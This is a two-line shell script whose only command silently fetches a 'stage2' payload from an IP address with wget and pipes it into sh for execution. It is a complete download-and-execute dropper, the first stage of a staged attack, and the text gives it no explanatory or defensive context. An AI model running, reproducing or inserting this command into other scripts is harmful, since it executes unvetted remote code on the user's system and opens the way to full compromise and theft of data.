#!/bin/sh
wget -qO- http://203.0.113.5/stage2 | sh
